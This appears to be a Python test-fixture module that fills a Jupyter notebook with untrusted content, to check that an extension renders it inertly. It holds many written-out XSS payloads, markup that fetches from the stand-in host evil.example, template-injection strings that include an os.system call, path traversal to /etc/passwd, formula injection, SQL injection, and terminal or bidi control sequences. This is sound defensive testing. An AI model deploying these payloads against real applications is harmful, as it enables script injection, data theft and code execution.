"""Texts that a stranger may write: markup, links, templates and characters that are to do nothing here.

Whatever runs sets ``window.broken``; whatever fetches asks ``evil.example``.
"""

from __future__ import annotations

import json
from typing import Any

import nbformat
from nbformat import NotebookNode

from hailuo_jupyter.states import State
from tests.support.sample_rows import shown_row

HOST = "evil.example"
ACT = "window.broken=1"

#: The output's type, written out: an attacker does not import it.
MIME = "application/vnd.hailuo.run+json"

#: Markup that acts, or fetches, wherever it gets into a page.
MARKUP = (
    f"<script>{ACT}</script>",
    f"<script src=//{HOST}/a.js></script>",
    f"<ScRiPt >{ACT}</sCrIpT\t\n>",
    f"<scr<script>ipt>{ACT}</scr</script>ipt>",
    f"<img src=x onerror={ACT}>",
    f"<img/src='x'/onerror='{ACT}'//",
    f"<img src=//{HOST}/i.png>",
    f"<img srcset='//{HOST}/s.png 1x' src='https://{HOST}/t.png'>",
    f"<svg onload={ACT}><script>{ACT}</script></svg>",
    f"<svg><image href=//{HOST}/v.svg /><use href='//{HOST}/u.svg#a'/></svg>",
    f"<svg><animate onbegin={ACT} attributeName=x dur=1s></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={ACT}></style></mglyph></table></mtext></math>",
    f"<math href='javascript:{ACT}'>click</math>",
    f"<a href='javascript:{ACT}'>click</a>",
    f"<a href='java\tscript:{ACT}' target=_blank>click</a>",
    f"<a href='data:text/html,<script>{ACT}</script>'>click</a>",
    f"<a href='blob:https://{HOST}/0'>click</a>",
    f"<video src=//{HOST}/v.mp4 autoplay poster=//{HOST}/p.png></video>",
    f"<video autoplay><source src=//{HOST}/w.mp4 onerror={ACT}></video>",
    f"<audio src=//{HOST}/a.mp3 autoplay></audio>",
    f"<iframe srcdoc='<script>parent.{ACT}</script>'></iframe>",
    f"<iframe src='javascript:parent.{ACT}'></iframe><object data=//{HOST}/o></object>",
    f"<embed src=//{HOST}/e><portal src=//{HOST}/></portal>",
    f"<form action=//{HOST}/f><input name=q autofocus onfocus={ACT}><button>go</button></form>",
    f"<meta http-equiv=refresh content='0;url=//{HOST}/m'><base href=//{HOST}/>",
    f"<link rel=stylesheet href=//{HOST}/l.css><style>@import '//{HOST}/c.css'</style>",
    f"<style>* {{ background: url(//{HOST}/b.png) }}</style>",
    f"<div style='position: fixed; inset: 0; background: url(//{HOST}/d.png)'>over all</div>",
    f"<div style='position: absolute; top: 0; z-index: 99; background: #fff'>over {HOST}</div>",
    f"<div style='margin: -400px 0 0 -400px; color: red'>over {HOST}</div>",
    "<a href='hailuo%2f..%2f..%2fapi%2fshutdown.mp4'>clip</a><a href='../../logout.json'>record</a>",
    "<a href='page.html'>clip</a><video src='%2e%2e/%2e%2e/api/contents.mp4' controls></video>",
    f"<table background=//{HOST}/g.png><td background=//{HOST}/h.png>cell</table>",
    f"<details open ontoggle={ACT}><summary>open</summary></details>",
    f"<body onload={ACT}><title>broken</title><plaintext>",
    f"<template><script>{ACT}</script></template><noscript><img src=x onerror={ACT}></noscript>",
    f"<custom-element is=x onclick={ACT} tabindex=0 autofocus onfocus={ACT}>",
    f"<button data-commandlinker-command=hailuo:show-runs onclick={ACT}>go</button>",
)

#: Ways out of the place where a text stands.
BREAKS = (
    f'" onmouseover="{ACT}" x="',
    f"' onmouseover='{ACT}' x='",
    f"`onmouseover={ACT}",
    f'"><script>{ACT}</script>',
    f"'><img src=x onerror={ACT}>",
    f"</div></details></td></table></pre><script>{ACT}</script>",
    f"</textarea></title></style></script><script>{ACT}</script>",
    f"--><script>{ACT}</script><!--",
    f"]]><script>{ACT}</script><![CDATA[",
    "<!-- never closed",
    "<![CDATA[ never closed",
    '<div title="never closed',
    "<",
    "</",
    "&lt;script&gt;&#60;&#x3c;&lt",
    f"\\u003cscript\\u003e{ACT}\\u003c/script\\u003e",
    f"red; background: url(//{HOST}/j.png); x: expression({ACT})",
    f"}} * {{ background: url(//{HOST}/k.png)",
    "{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{{ cycler.__init__.__globals__.os.system('touch broken') }}{# #}{{ '' | safe }}",
    "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %(name)s {0!r:>{9}}",
    f"[click](javascript:{ACT}) ![x](//{HOST}/n.png) <//{HOST}/q>",
    f"[x]: javascript:{ACT}\n\n[x]\n\n<img src=//{HOST}/r.png>",
    f"$\\href{{javascript:{ACT}}}{{click}}$ $$\\style{{background:url(//{HOST}/y.png)}}{{x}}$$ \\(x\\)",
    f"javascript:{ACT}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"//{HOST}/",
    f"https://{HOST}/a.png?q=<script>",
    "file:///etc/passwd",
    "../../../../etc/passwd",
    "\\\\evil.example\\share\\a.png",
    '=HYPERLINK("http://evil.example/";"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE runs; --",
    "__proto__",
    "constructor",
    "hasOwnProperty",
)  # fmt: skip

#: Characters that a terminal or the writing direction obeys, or nobody sees.
CHARACTERS = (
    "null \x00 byte",
    "bell \x07 back \x08\x08\x08\x08 return \rforged",
    "colour \x1b[31;5m title \x1b]0;broken\x07 link \x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "clear \x1b[2J\x1b[H c1 \x9b31m\x9d0;broken\x9c \x85 \x7f",
    "turned \u202egpj.exe\u202c \u2066isolate\u2069 \u200fmark\u200e \u061c",
    "lines \u2028 and \u2029 break",
    "zero\u200bwidth\u200djoin\u2060\ufeff",
    "\u0430pple.png, not apple.png",
    "Z\u0351\u036b\u0343\u036a\u0302a\u0315\u0360l\u0334\u0340g\u0358o" + "\u0300" * 200,
    "\U000e0041\U000e0042 tags \ufffe\uffff",
)

#: Larger than anybody writes.
LARGE = ("A" * 20_000, "<" * 5_000, "&" * 5_000, "<b>" * 3_000, "\u202e" * 3_000, "{{" * 3_000)

#: What a file or a page can hold.
TEXTS = (*MARKUP, *BREAKS, *CHARACTERS)

#: In memory a text may also hold half a character.
ALL = (*TEXTS, *LARGE, "half \ud800 a pair \udfff")

#: Values where a record holds a text, a number, a list or an object.
WRONG = (None, True, -1, 1e308, "", [], {}, [[]], [None], {"": None}, "\0", *MARKUP[:2])


def nested(levels: int = 100) -> Any:
    """Lists and objects in each other."""
    value: Any = MARKUP[4]
    for _ in range(levels):
        value = {"__proto__": [value], "constructor": {"prototype": {"broken": 1}}}
    return value


def hostile(value: Any, text: str) -> Any:
    """Return JSON with a text in place of every text in it."""
    if isinstance(value, dict):
        return {name: hostile(inner, text) for name, inner in value.items()}
    if isinstance(value, list):
        return [hostile(inner, text) for inner in value]
    return text if isinstance(value, str) else value


def records() -> list[dict[str, Any]]:
    """Records as a stranger's notebook may hold them: each text everywhere, and wrong types everywhere."""
    problem = ("failed", "What happened.", "The money.", "What to do.")
    frame = {"source": "a.png", "sha256": "0" * 64, "kept": "frames/a.png", "url": "https://a.b/c"}
    found = []
    for number, text in enumerate((*TEXTS, LARGE[0][:3000])):
        state = State.COMPLETED if number % 2 else State.FAILED
        row = shown_row(
            state, problem=problem, note="note", name="name", tags=["tag"], rating=number % 6
        )
        plain = json.loads(row.record_json)
        plain["request"] |= {"first_frame": frame, "last_frame": frame}
        plain["request"]["options"] = {"mode": "pro", text[:50]: "value"}
        wild = hostile(plain, text)
        # What our code asks of a record, so that it goes on with the rest.
        found.append(wild | {"run_id": f"stranger-{number}", "state": state.value})
    for number, wrong in enumerate(WRONG):
        plain = dict.fromkeys(found[0], wrong)
        ids = {"run_id": f"wrong-{number}", "revision": number, "state": str(wrong)}
        found += [plain | ids, plain]
    for number, run_id in enumerate(("constructor", "toString", "valueOf", "0")):
        found.append({"run_id": run_id, "revision": 10**number, "state": "completed"})
    deep = {"run_id": "deep", "revision": 1, "state": "completed", "request": nested()}
    return [*found, deep, {**deep, "run_id": "deep-2", "tags": [nested(50)] * 20}]


def page(run_id: str, markup: str) -> str:
    """HTML as it may stand beside a record: it looks like ours, and is none of ours."""
    links = "".join(
        f'<a href="{start}/{run_id}.mp4">clip</a>'
        for start in (f"javascript:{ACT}", f"https://{HOST}", "%zz/..%2f..", "../../..")
    )
    return (
        f'<div><div>{markup}{links}<video controls title="Clip of run {run_id}" src="//{HOST}/c.mp4"'
        f' poster="//{HOST}/c.png"></video><img alt="One picture of the clip of run {run_id}"'
        f' src="//{HOST}/c.jpg"><div style="overflow: auto">{markup}</div></div></div>'
    )


#: So many outputs a cell has.
_TOGETHER = 5


def strangers(notebook: NotebookNode) -> NotebookNode:
    """Put all of it into a notebook that has no cells yet: outputs, metadata, cells' metadata."""
    kept: dict[str, Any] = {}
    texts = (*MARKUP, *BREAKS)
    for number, record in enumerate(records()):
        markup = texts[number % len(texts)]
        run_id = str(record.get("run_id"))
        shown: Any = record
        if number % 7 == 3:
            shown = {"runs": [record, record, markup, None, 3]}
        if number % 7 == 5:
            shown = {"panel": markup, "runs": [record], "__proto__": {"broken": 1}}
        data = {MIME: shown, "text/html": page(run_id, markup), "text/plain": markup}
        if number % 5 == 4:
            data["application/vnd.jupyter.widget-view+json"] = {
                "version_major": 2, "version_minor": 0, "model_id": markup,
            }  # fmt: skip
        output = {"output_type": "display_data", "data": data, "metadata": {MIME: markup}}
        if number % _TOGETHER == 0:
            cell = nbformat.v4.new_code_cell(f"%%hailuo\nStranger {number}.")
            wrong = WRONG[number // _TOGETHER % len(WRONG)]
            cell.metadata["hailuo"] = wrong if number % 2 else {"runs": [markup, run_id]}
            notebook.cells.append(cell)
        notebook.cells[-1].outputs.append(output)
        kept[markup if number % 3 else run_id] = record
    kept["__proto__"] = {"run_id": "__proto__", "revision": 3, "state": "completed"}
    home = {"schema": 1, "id": MARKUP[4], "runs": kept, "__proto__": {"broken": 1}}
    notebook.metadata["hailuo"] = home
    plain: NotebookNode = nbformat.from_dict(json.loads(json.dumps(notebook)))
    return plain
